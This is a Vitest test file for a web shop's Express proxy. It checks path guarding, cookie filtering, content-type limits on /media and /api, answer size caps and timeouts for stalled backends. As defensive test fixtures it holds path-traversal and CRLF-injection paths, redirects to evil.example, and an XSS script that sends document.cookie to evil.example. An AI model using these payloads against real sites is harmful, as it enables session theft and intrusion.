// The real-backend proxy (host/backend/backend-proxy.ts) behind the path guard
// (host/backend/backend-paths.ts), mounted as host/app.ts mounts them: what reaches the backend,
// what the visitor gets back, and how a backend that stalls is bounded.
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { request, type IncomingMessage, type ServerResponse } from 'node:http';
import express from 'express';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { backendPathGuard } from '../../host/backend/backend-paths.ts';
import {
  BACKEND_DOWN,
  BACKEND_ERROR,
  BACKEND_ODD,
  backendProxy,
  type BackendProxyOptions,
} from '../../host/backend/backend-proxy.ts';
import { requestIds } from '../../host/process/request-log.ts';
import { SETTINGS } from '../../host/process/settings.ts';
import { plainScheme } from '../../host/process/request-scheme.ts';
import { securityHeaders, SVG_POLICY } from '../../host/process/security.ts';
import * as entry from '../../src/server-entry/entry-server.tsx';
import type { FailedCall } from '../../src/server-entry/server-log.ts';
import { listen, type Listening, rawGet } from './http-helpers.ts';
import { asHeader, STRAY_COOKIES } from './stray-cookies.ts';
import { tricklingBackend } from '../e2e/fault-backends.ts';

const SHOP_PAGE = 'страница магазина';

const open: { close(): Promise<void> | void }[] = [];
afterEach(async () => {
  for (const item of open.splice(0).reverse()) await item.close();
});

async function backend(handler: (req: IncomingMessage, res: ServerResponse) => void) {
  const asked: string[] = [];
  const running = await listen((req, res) => {
    asked.push(req.url ?? '');
    handler(req, res);
  });
  open.push(running);
  return { ...running, asked };
}

/** The shop's chain for /api and /media, as host/app.ts builds it, with its pages as a text. */
async function shopInFront(apiTarget: string, options: BackendProxyOptions = {}) {
  const app = express();
  app.use(requestIds);
  app.set('trust proxy', 'loopback');
  plainScheme(app);
  app.use(securityHeaders());
  app.use(backendPathGuard());
  const proxy = backendProxy(entry, apiTarget, options);
  app.use(proxy.handle);
  app.use((_req, res) => {
    res.status(404).type('text/plain; charset=utf-8').send(SHOP_PAGE);
  });
  const running: Listening = await listen(app);
  open.push({ close: () => running.close().then(() => proxy.close()) });
  return running;
}

/** A /media file of `type`, or a JSON answer for /api. */
function files(req: IncomingMessage, res: ServerResponse): void {
  const url = req.url ?? '';
  const types: Record<string, string> = {
    '/media/p.jpg': 'image/jpeg',
    '/media/p.png': 'image/png',
    '/media/p.webp': 'image/webp',
    '/media/p.avif': 'image/avif',
    '/media/p.gif': 'image/gif',
    '/media/caps.jpg': 'IMAGE/JPEG; charset=binary',
    '/media/p.svg': 'image/svg+xml',
    '/media/policy.pdf': 'application/pdf',
    '/media/t/x.html': 'text/html; charset=utf-8',
    '/media/t/x.js': 'application/javascript',
    '/media/t/x.mjs': 'text/javascript',
    '/media/t/x.xhtml': 'application/xhtml+xml',
    '/media/t/x.xml': 'text/xml',
    '/media/t/x.json': 'application/json',
    '/media/t/x.txt': 'text/plain',
    '/media/t/x.exe': 'application/octet-stream',
    '/media/t/two.png': 'image/png, text/html',
  };
  if (url === '/media/t/untyped') {
    res.end('<script>alert(1)</script>');
  } else if (url === '/media/t/away.jpg') {
    res.writeHead(302, { Location: 'https://evil.example/x.jpg' }).end();
  } else if (url === '/media/p-cached.jpg') {
    res.writeHead(304, { ETag: '"p"' }).end();
  } else if (url === '/api/catalog/basket') {
    // An empty basket: /api checks a call of the app's against its shape.
    res.writeHead(200, { 'Content-Type': 'application/json' }).end('{}');
  } else if (url.startsWith('/api/')) {
    res.writeHead(200, { 'Content-Type': 'application/json' }).end('{"ok":true}');
  } else if (types[url]) {
    res.writeHead(200, { 'Content-Type': types[url] }).end('<html><script>alert(1)</script>');
  } else {
    res.writeHead(404, { 'Content-Type': 'text/html' }).end('<h1>Page not found</h1>');
  }
}

describe('paths: only /api/ and /media/ as whole segments, in one reading, reach the backend', () => {
  it.each([
    '/media/../admin/',
    '/api/../admin/',
    '/api%2f..%2fadmin',
    '/api%2F..%2Fadmin',
    '/media%2f..%2fadmin',
    '/api%5c..%5cadmin',
    '/media/%2e%2e/admin/',
    '/media/%2E%2E/admin/',
    '/api/.%2e/admin/',
    '/api/catalog/%2e/basket',
    '/media/./p.jpg',
    '/media/..;/admin/',
    '/media/..%2fadmin',
    '/media/a%2fb.jpg',
    '/media/a%5cb.jpg',
    '/media/a%5Cb.jpg',
    '/media\\..\\admin',
    '/api/catalog\\..\\..\\admin',
    '/media//p.jpg',
    '/media/%00.jpg',
    '/media/%0d%0aX:y.jpg',
    '/media/%zz.jpg',
    '/API/../admin/',
    'http://evil.example/api/../admin/',
  ])('%s: the shop says «Не найдено» and the backend is never asked', async (path) => {
    const api = await backend(files);
    const shop = await shopInFront(api.url);
    const answer = await rawGet(shop.url, path);
    expect(answer.status).toBe(404);
    expect(answer.body).toBe('Не найдено');
    expect(answer.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    expect(api.asked).toEqual([]);
  });

  it.each(['/mediafoo', '/mediafoo/p.jpg', '/apix', '/api-docs/', '/media.jpg'])(
    '%s is no backend path: the shop answers it itself',
    async (path) => {
      const api = await backend(files);
      const shop = await shopInFront(api.url);
      const answer = await rawGet(shop.url, path);
      expect(answer.body).toBe(SHOP_PAGE);
      expect(api.asked).toEqual([]);
    },
  );

  it.each([
    '/api/catalog/product_search?q=..%2F..%2Fadmin',
    '/api/auth/user/me/',
    '/media/catalog/%D0%BC%D0%B0%D0%BB%D0%B8%D0%BD%D0%B0.jpg',
    '/media/p.jpg',
  ])('%s goes to the backend exactly as sent', async (path) => {
    const api = await backend((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'image/jpeg' }).end();
    });
    const shop = await shopInFront(api.url);
    await rawGet(shop.url, path);
    expect(api.asked).toEqual([path]);
  });
});

describe("the visitor's cookies", () => {
  it('only the backend’s own reach it, each as the visitor sent it; a stray one fails nothing', async () => {
    const cookies: (string | undefined)[] = [];
    const api = await backend((req, res) => {
      cookies.push(req.headers.cookie);
      files(req, res);
    });
    const shop = await shopInFront(api.url);
    const own = `sessionid=${asHeader('сессия')}; csrftoken=tok; jwt=token-a`;
    for (const path of ['/api/catalog/basket', '/media/p.jpg']) {
      const answer = await rawGet(shop.url, path, {
        cookie: `${STRAY_COOKIES}; ${own}; theme=dark; sessionid=second`,
      });
      expect(answer.status).toBe(200);
    }
    const stray = await rawGet(shop.url, '/api/catalog/basket', { cookie: STRAY_COOKIES });
    expect(stray.status).toBe(200);
    expect(cookies.slice(0, 2).map((line) => Buffer.from(line ?? '', 'latin1'))).toEqual([
      Buffer.from('sessionid=сессия; csrftoken=tok; jwt=token-a'),
      Buffer.from('sessionid=сессия; csrftoken=tok; jwt=token-a'),
    ]);
    expect(cookies[2]).toBeUndefined();
  });
});

describe('/media hands out pictures and PDFs only', () => {
  it.each([
    ['/media/p.jpg', 'image/jpeg'],
    ['/media/p.png', 'image/png'],
    ['/media/p.webp', 'image/webp'],
    ['/media/p.avif', 'image/avif'],
    ['/media/p.gif', 'image/gif'],
    ['/media/caps.jpg', 'image/jpeg'],
    ['/media/policy.pdf', 'application/pdf'],
  ])('%s goes out as %s, never sniffed', async (path, type) => {
    const api = await backend(files);
    const shop = await shopInFront(api.url);
    const answer = await rawGet(shop.url, path);
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe(type);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
  });

  it('an SVG goes out under a policy that runs and loads nothing', async () => {
    const api = await backend(files);
    const shop = await shopInFront(api.url);
    const answer = await rawGet(shop.url, '/media/p.svg');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('image/svg+xml');
    expect(answer.headers['content-security-policy']).toBe(SVG_POLICY);
  });

  it('a picture the browser has already is a 304', async () => {
    const api = await backend(files);
    const shop = await shopInFront(api.url);
    const answer = await rawGet(shop.url, '/media/p-cached.jpg', { 'If-None-Match': '"p"' });
    expect(answer.status).toBe(304);
  });

  it.each([
    ['/media/t/x.html', 'a page'],
    ['/media/t/x.js', 'a script'],
    ['/media/t/x.mjs', 'a script as text/javascript'],
    ['/media/t/x.xhtml', 'XHTML'],
    ['/media/t/x.xml', 'XML'],
    ['/media/t/x.json', 'JSON'],
    ['/media/t/x.txt', 'text'],
    ['/media/t/x.exe', 'a download'],
    ['/media/t/untyped', 'no Content-Type, which a browser would sniff'],
    ['/media/t/two.png', 'two types, the last of which a browser would take'],
    ['/media/t/away.jpg', 'a redirect to another site'],
  ])('%s (%s) is the shop’s 404', async (path) => {
    const api = await backend(files);
    const shop = await shopInFront(api.url);
    const answer = await rawGet(shop.url, path);
    expect(answer.status).toBe(404);
    expect(answer.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(answer.headers.location).toBeUndefined();
    expect(answer.body).toBe('Не найдено');
  });
});

/** /api answers that are no JSON, lead elsewhere or are too large, and two that pass. */
function oddAnswers(req: IncomingMessage, res: ServerResponse): void {
  const url = req.url ?? '';
  const { port } = req.socket.address() as { port: number };
  const script = '<script>fetch("https://evil.example/?c=" + document.cookie)</script>';
  const odd: Record<string, () => void> = {
    '/api/t/x.html': () => res.writeHead(200, { 'Content-Type': 'text/html' }).end(script),
    '/api/t/x.js': () =>
      res.writeHead(200, { 'Content-Type': 'application/javascript' }).end('alert(1)'),
    '/api/t/untyped': () => res.end(script),
    '/api/t/two': () =>
      res.writeHead(200, { 'Content-Type': 'application/json, text/html' }).end(script),
    '/api/t/not-json': () => res.writeHead(200, { 'Content-Type': 'application/json' }).end(script),
    '/api/t/away': () =>
      res.writeHead(302, { Location: 'https://evil.example/api/catalog/basket' }).end(),
    '/api/t/away-307': () => res.writeHead(307, { Location: '//evil.example/api/x' }).end(),
    '/api/t/out-of-api': () => res.writeHead(301, { Location: '/admin/' }).end(),
    '/api/t/declared-large': () =>
      res
        .writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': 4096 })
        .end(`[${'0,'.repeat(2047)}0]`),
    '/api/t/streamed-large': () => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      // Sent in pieces, with no length said: counted as it comes.
      const piece = `${'1,'.repeat(500)}`;
      res.write('[');
      for (let i = 0; i < 8; i += 1) res.write(piece);
      res.end('1]');
    },
    '/api/t/inside': () =>
      res.writeHead(301, { Location: `http://127.0.0.1:${port}/api/auth/user/me/?a=1` }).end(),
    // A call of the app's, answered with JSON of another shape (paginated, as DRF can).
    '/api/catalog/section_root': () =>
      res.writeHead(200, { 'Content-Type': 'application/json' }).end('{"count":0,"results":[]}'),
    // Django's HTML error pages (DEBUG off).
    '/api/t/html-500': () =>
      res.writeHead(500, { 'Content-Type': 'text/html' }).end('<h1>Server Error (500)</h1>'),
    '/api/t/html-401': () =>
      res.writeHead(401, { 'Content-Type': 'text/html' }).end('<h1>Unauthorized</h1>'),
    '/api/t/small': () =>
      res.writeHead(200, { 'Content-Type': 'application/json; charset=utf-8' }).end('[1,2,3]'),
    '/api/t/removed': () => res.writeHead(204).end(),
    // DRF's Response(status=200): no type, no body.
    '/api/t/removed-200': () => res.writeHead(200).end(),
    // Django's HttpResponse(status=200), its empty body sent with no length said.
    '/api/t/removed-html': () => {
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.flushHeaders();
      res.end();
    },
  };
  (odd[url] ?? (() => res.writeHead(404).end()))();
}

describe('/api passes JSON only, of a bounded size', () => {
  it.each([
    ['/api/t/x.html', 'a page whose script would read the cookies', 'bad_shape'],
    ['/api/t/x.js', 'a script', 'bad_shape'],
    ['/api/t/untyped', 'no Content-Type, which a browser would sniff', 'bad_shape'],
    ['/api/t/two', 'two types', 'bad_shape'],
    ['/api/t/not-json', 'HTML that says it is JSON', 'bad_shape'],
    ['/api/catalog/section_root', 'JSON of another shape than the call’s', 'bad_shape'],
    ['/api/t/away', 'a redirect to another site', 'redirect'],
    ['/api/t/away-307', 'a 307 to another site, by a scheme-relative address', 'redirect'],
    ['/api/t/out-of-api', 'a redirect out of /api', 'redirect'],
    ['/api/t/declared-large', 'an answer whose length is over the cap', 'too_big'],
    ['/api/t/streamed-large', 'an answer that grows over the cap as it streams', 'too_big'],
  ])(
    "%s (%s) is the shop's own JSON error, 502, that names its outcome",
    async (path, _, outcome) => {
      const api = await backend(oddAnswers);
      const shop = await shopInFront(api.url, { maxAnswerBytes: 2048 });
      const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
      const answer = await rawGet(shop.url, path);
      const logged = warn.mock.calls.map((args) => args.join(' '));
      warn.mockRestore();
      expect(answer.status).toBe(502);
      expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(answer.headers['x-content-type-options']).toBe('nosniff');
      expect(answer.headers.location).toBeUndefined();
      expect(JSON.parse(answer.body)).toEqual({ detail: BACKEND_ODD });
      // For the app's message (src/api/call-failure.ts), and for the operator.
      expect(answer.headers['x-backend-outcome']).toBe(outcome);
      expect(logged).toEqual([
        expect.stringContaining(`backend call failed: unreadable (${outcome}): GET ${path}: `),
      ]);
    },
  );

  it.each([
    ['an item that does not exist', '/api/t/missing', {}, 404, null],
    ['a token it dropped', '/api/t/html-401', { Authorization: 'Bearer old' }, 401, null],
    ['a call the shop sent no token with', '/api/t/html-401', {}, 401, ['error', '4xx']],
    ['a server error', '/api/t/html-500', {}, 500, ['error', '5xx']],
  ])(
    'an HTML error page for %s (%s, sent with %o) keeps its %i; the log says %o',
    async (_what, path, headers, status, logged) => {
      const api = await backend(oddAnswers);
      const lines: FailedCall[] = [];
      const shop = await shopInFront(api.url, { log: { callFailed: (line) => lines.push(line) } });
      const answer = await rawGet(shop.url, path, { ...headers, 'X-Request-Id': 'req-43' });
      expect(answer.status).toBe(status);
      expect(JSON.parse(answer.body)).toEqual({ detail: BACKEND_ERROR });
      // A refusal the shop's flows expect (its -404 page, a token dropped) is no news to the
      // operator; an error is, by its case and call, under the request's id.
      const [failure, outcome] = logged ?? [];
      expect(lines).toEqual(
        logged
          ? [
              {
                id: 'req-43',
                case: failure,
                outcome,
                call: `GET ${path}`,
                why: `${status}, text/html`,
              },
            ]
          : [],
      );
    },
  );

  it('a redirect within /api goes on as a path of the shop', async () => {
    const api = await backend(oddAnswers);
    const shop = await shopInFront(api.url, { maxAnswerBytes: 2048 });
    const answer = await rawGet(shop.url, '/api/t/inside');
    expect(answer.status).toBe(301);
    expect(answer.headers.location).toBe('/api/auth/user/me/?a=1');
  });

  it('JSON under the cap, and a removal without a body, pass', async () => {
    const api = await backend(oddAnswers);
    const shop = await shopInFront(api.url, { maxAnswerBytes: 2048 });
    const small = await rawGet(shop.url, '/api/t/small');
    expect(small.status).toBe(200);
    expect(JSON.parse(small.body)).toEqual([1, 2, 3]);
    expect((await rawGet(shop.url, '/api/t/removed')).status).toBe(204);
  });

  it.each([
    ['/api/t/removed-200', "DRF's Response(status=200): no type"],
    ['/api/t/removed-html', 'text/html, streamed with no length said'],
  ])('a removal answered 200 with an empty body (%s, %s) passes as an empty 200', async (path) => {
    const api = await backend(oddAnswers);
    const shop = await shopInFront(api.url, { maxAnswerBytes: 2048 });
    const answer = await fetch(shop.url + path, { method: 'DELETE' });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBeNull();
    expect(await answer.text()).toBe('');
  });
});

describe('a backend that stalls', () => {
  it('is reached over a bounded number of kept-alive sockets', async () => {
    let connections = 0;
    const api = await backend(files);
    api.server.on('connection', () => {
      connections += 1;
    });
    const shop = await shopInFront(api.url, { maxSockets: 2 });
    const answers = await Promise.all(
      Array.from({ length: 6 }, (_, index) => rawGet(shop.url, `/api/catalog/product/${index}`)),
    );
    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200, 200, 200]);
    expect(connections).toBeLessThanOrEqual(2);
  });

  it("answers with the shop's message when the backend does not, and ends the backend's call", async () => {
    const held: IncomingMessage[] = [];
    const api = await backend((req) => held.push(req));
    const shop = await shopInFront(api.url, { timeoutMs: 300 });

    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
    const call = await rawGet(shop.url, '/api/catalog/basket');
    const logged = warn.mock.calls.map((args) => args.join(' '));
    warn.mockRestore();
    expect(call.status).toBe(504);
    expect(JSON.parse(call.body)).toEqual({ detail: BACKEND_DOWN });
    expect(call.headers['x-backend-outcome']).toBe('timeout');
    expect(logged).toEqual([
      'backend call failed: unreachable (timeout): GET /api/catalog/basket: no answer in 300 ms',
    ]);
    const file = await rawGet(shop.url, '/media/p.jpg');
    expect(file.status).toBe(504);
    expect(file.body).toBe(BACKEND_DOWN);
    // Both calls are over for the backend too: no socket left open on a stalled backend.
    await Promise.all(held.map((req) => req.socket.closed || once(req.socket, 'close')));
  });

  // Bounded well inside the proxy's own deadline (which would end the call anyway, later).
  it("a visitor who leaves ends the backend's call", { timeout: 15_000 }, async () => {
    let arrive: (req: IncomingMessage) => void = () => {};
    const arrived = new Promise<IncomingMessage>((resolve) => (arrive = resolve));
    const api = await backend((req) => arrive(req));
    const shop = await shopInFront(api.url, { timeoutMs: 600_000 });
    const { hostname, port } = new URL(shop.url);
    const visitor = request({ hostname, port, path: '/api/catalog/basket', agent: false });
    visitor.on('error', () => {});
    visitor.end();
    const held = await arrived;
    const closed = once(held.socket, 'close');
    visitor.destroy();
    await closed;
  });

  it("gives up before nginx does, so the shopper reads the shop's message", () => {
    const config = readFileSync(new URL('../../deploy/nginx.conf', import.meta.url), 'utf8');
    const timeouts = [...config.matchAll(/proxy_read_timeout\s+(\d+)s;/g)].map((m) => Number(m[1]));
    expect(timeouts.length).toBeGreaterThan(0);
    // The default, and any value PROXY_TIMEOUT_MS may be set to.
    const setting = SETTINGS.proxyTimeoutMs;
    for (const seconds of timeouts) {
      expect(setting.default).toBeLessThan(seconds * 1000);
      expect(setting.read(String(seconds * 1000))).toBeUndefined();
    }
  });

  it('a backend that trickles its answer a byte a second is cut off at the deadline: /api with the shop’s message, /media mid-file', async () => {
    const trickle = await tricklingBackend();
    open.push(trickle);
    const shop = await shopInFront(trickle.url, { timeoutMs: 1500 });
    const api = await rawGet(shop.url, '/api/catalog/product');
    expect(api.status).toBe(504);
    expect(JSON.parse(api.body)).toEqual({ detail: BACKEND_DOWN });
    // A file has begun to go out: it is cut short, never ended as if whole.
    const media = await rawGet(shop.url, '/media/p.jpg').catch((error: Error) => error);
    expect(media).toBeInstanceOf(Error);
    expect(String((media as Error).message)).toMatch(/aborted|socket hang up|ECONNRESET/);
    // Nothing of either call is left open at the backend.
    await expect.poll(() => trickle.open()).toBe(0);
  });
});
